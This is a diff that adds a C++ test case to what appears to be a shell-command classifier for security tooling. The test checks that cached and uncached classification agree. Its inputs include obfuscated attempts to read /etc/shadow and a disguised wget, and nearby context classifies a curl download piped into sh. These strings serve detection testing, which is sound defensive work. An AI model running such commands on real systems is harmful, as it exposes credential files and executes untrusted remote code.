@@ -63,6 +63,38 @@ std::string complaint(std::string_view yaml) {
 
 }  // namespace
 
+TEST_CASE("lines that come again make the same calls") {
+  CallMaker maker(shipped());
+  CallMaker forgetful(shipped(), false);
+  std::size_t calls = 0;
+  std::vector<std::string> lines = test::seed_commands();
+  // A word that is no part of its line, and a line with nothing to remember.
+  for (const char* line : {"w\\get -q x", "c'a't /etc/sha\"\"dow; $'\\x6c\\x73' a", "", "A=1", "> x"}) {
+    lines.emplace_back(line);
+  }
+  for (int round = 0; round < 2; ++round) {
+    for (const std::string& line : lines) {
+      std::string payload = R"({"command_text":)";
+      append_json_string(payload, line);
+      const test::OwnedEvent event("command", payload + '}');
+      const auto known = maker.calls_of(event);
+      const auto made = forgetful.calls_of(event);
+      CAPTURE(line);
+      REQUIRE(known.size() == made.size());
+      for (std::size_t i = 0; i < made.size(); ++i) {
+        CHECK(known[i].call.tool == made[i].call.tool);
+        CHECK(known[i].call.sink == made[i].call.sink);
+        CHECK(known[i].call.is_tainted == made[i].call.is_tainted);
+        CHECK(known[i].text == made[i].text);
+        CHECK(known[i].decider == made[i].decider);
+        CHECK(known[i].line == made[i].line);
+      }
+      calls += made.size();
+    }
+  }
+  CHECK(calls > 1000);
+}
+
 TEST_CASE("shell commands: what the specification names") {
   CHECK(typed("curl -O http://192.0.2.1/x") == "curl:filesystem_write!");
   CHECK(typed("curl http://192.0.2.1/x | sh -s") == "curl:read_only! sh:code_execution");
